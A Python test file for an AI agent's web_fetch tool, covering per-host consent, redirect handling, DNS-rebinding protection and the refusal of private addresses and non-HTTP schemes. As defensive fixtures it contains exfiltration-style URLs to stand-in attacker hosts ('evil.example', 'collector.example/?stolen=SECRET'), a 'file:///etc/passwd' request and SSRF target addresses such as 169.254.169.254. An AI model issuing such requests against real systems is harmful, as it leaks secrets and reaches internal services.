"""web_fetch: it asks per host before anything leaves, resolves once and connects to what it checked,
and refuses addresses that are not global."""

from __future__ import annotations

import ipaddress
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import httpx
import pytest

from orkas.engine.abort import AbortSignal
from orkas.engine.consent import Ask
from orkas.engine.messages import TextBlock
from orkas.engine.tools.base import ToolContext, ToolResult
from orkas.engine.tools.web import WebFetch, is_public
from tests.fakes.site import serve


class _Site(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "/page")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif self.path == "/binary":
            self._send("application/octet-stream", b"\0\1\2")
        else:
            self._send(
                "text/html; charset=utf-8",
                b"<html><head><title>Test page</title><script>var secret=1</script></head><body><nav>menu</nav>"
                b"<h1>Welcome</h1><p>Readable <b>text</b> here.</p><ul><li>one</li></ul></body></html>",
            )

    def _send(self, kind: str, payload: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)


@pytest.fixture
def site() -> Iterator[str]:
    with serve(_Site) as url:
        yield url


class Person:
    """Answers questions as told, and remembers them."""

    def __init__(self, *allowed_hosts: str) -> None:
        self.allowed = set(allowed_hosts)
        self.asked: list[Ask] = []

    async def ask(self, ask: Ask) -> bool:
        self.asked.append(ask)
        return ask.key is not None and ask.key.split(":", 1)[1].split(":")[0] in self.allowed

    def ctx(self, ws: Path) -> ToolContext:
        return ToolContext(workspace=ws, signal=AbortSignal(), tool_use_id="t", ask=self.ask)


def body(result: ToolResult) -> str:
    block = result.content[0]
    assert isinstance(block, TextBlock)
    return block.text


async def test_it_asks_before_contacting_a_host_and_before_any_dns_lookup(tmp_path: Path) -> None:
    looked_up: list[str] = []

    async def resolver(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return ["93.184.216.34"]

    person = Person()
    fetch = WebFetch(resolver=resolver)
    result = await fetch.execute({"url": "https://SECRET-abc123.evil.example/?q=token"}, person.ctx(tmp_path))
    assert result.is_error and "did not approve" in body(result)
    assert looked_up == []  # a lookup of SECRET-abc123.evil.example would itself have leaked it
    (question,) = person.asked
    assert question.key == "web_fetch:secret-abc123.evil.example" and question.effect == "network"
    assert question.level == "dangerous" and "?q=token" in question.preview


async def test_approved_reads_a_page_and_a_redirect_on_the_same_host_asks_once(tmp_path: Path, site: str) -> None:
    person = Person("127.0.0.1")
    fetch = WebFetch(allow_private=True)
    page = await fetch.execute({"url": f"{site}/redirect"}, person.ctx(tmp_path))
    text = body(page)
    assert text.startswith(f'<untrusted_data source="web_fetch {site}/page">\nTest page\n')  # marked as data
    assert not page.is_error and "Readable text here." in text and text.endswith("\n</untrusted_data>")
    assert "secret" not in text and "menu" not in text and len(person.asked) == 1
    binary = await fetch.execute({"url": f"{site}/binary"}, person.ctx(tmp_path))
    assert binary.is_error and "not a page" in body(binary)


async def test_a_redirect_to_another_host_asks_again(tmp_path: Path) -> None:
    """An open redirect on an approved site must not carry data to a host nobody approved."""
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(302, headers={"Location": "https://collector.example/?stolen=SECRET"})

    async def resolver(host: str, port: int) -> list[str]:
        return ["93.184.216.34"]

    person = Person("docs.example")
    fetch = WebFetch(resolver=resolver, transport=httpx.MockTransport(handler))
    result = await fetch.execute({"url": "https://docs.example/go"}, person.ctx(tmp_path))
    assert result.is_error and "collector.example" in body(result)
    assert [a.key for a in person.asked] == ["web_fetch:docs.example", "web_fetch:collector.example"]
    assert len(seen) == 1


async def test_the_address_checked_is_the_address_connected_to(tmp_path: Path) -> None:
    """DNS rebinding: a second lookup could answer 127.0.0.1; there is no second lookup."""
    answers = iter([["93.184.216.34"], ["127.0.0.1"]])
    lookups: list[str] = []
    seen: list[httpx.Request] = []

    async def resolver(host: str, port: int) -> list[str]:
        lookups.append(host)
        return next(answers)

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, headers={"Content-Type": "text/plain"}, text="hello")

    fetch = WebFetch(resolver=resolver, transport=httpx.MockTransport(handler))
    result = await fetch.execute({"url": "https://rebind.example:8443/x?y=1"}, Person("rebind.example").ctx(tmp_path))
    assert not result.is_error and lookups == ["rebind.example"]
    (request,) = seen
    assert request.url.host == "93.184.216.34" and request.url.port == 8443 and request.url.path == "/x"
    assert request.headers["Host"] == "rebind.example:8443"
    assert request.extensions.get("sni_hostname") == "rebind.example"


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100.64.0.1", "100.127.255.254", "169.254.169.254",
     "0.0.0.0", "::1", "fe80::1", "fc00::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "64:ff9b::7f00:1",
     "2002:7f00:1::1", "224.0.0.1", "198.18.0.1"],
)  # fmt: skip
def test_addresses_that_are_not_global_are_private(address: str) -> None:
    assert not is_public(ipaddress.ip_address(address))


@pytest.mark.parametrize("address", ["93.184.216.34", "1.1.1.1", "2606:4700:4700::1111", "64:ff9b::5db8:d822"])
def test_global_addresses_are_public(address: str) -> None:
    assert is_public(ipaddress.ip_address(address))


@pytest.mark.parametrize("answer", [["100.64.0.7"], ["93.184.216.34", "10.1.2.3"], ["::ffff:127.0.0.1"]])
async def test_a_host_with_any_private_address_is_refused(tmp_path: Path, answer: list[str]) -> None:
    async def resolver(host: str, port: int) -> list[str]:
        return answer

    fetch = WebFetch(resolver=resolver, transport=httpx.MockTransport(lambda r: httpx.Response(200)))
    result = await fetch.execute({"url": "https://inside.example/"}, Person("inside.example").ctx(tmp_path))
    assert result.is_error and "private or local" in body(result)


async def test_non_http_is_refused_without_a_question(tmp_path: Path) -> None:
    person = Person()
    for url in ("file:///etc/passwd", "ftp://example.com/x", "gopher://x/", "no-scheme"):
        result = await WebFetch().execute({"url": url}, person.ctx(tmp_path))
        assert result.is_error and body(result).startswith("not fetched:"), url
    assert person.asked == []


async def test_the_search_service_the_person_set_up_needs_no_question(tmp_path: Path) -> None:
    async def resolver(host: str, port: int) -> list[str]:
        return ["93.184.216.34"]

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, headers={"Content-Type": "text/plain"}, text="results")

    person = Person()
    fetch = WebFetch(approved_hosts=["search.example"], resolver=resolver, transport=httpx.MockTransport(handler))
    result = await fetch.execute({"url": "https://search.example/?q=x"}, person.ctx(tmp_path))
    assert not result.is_error and person.asked == []
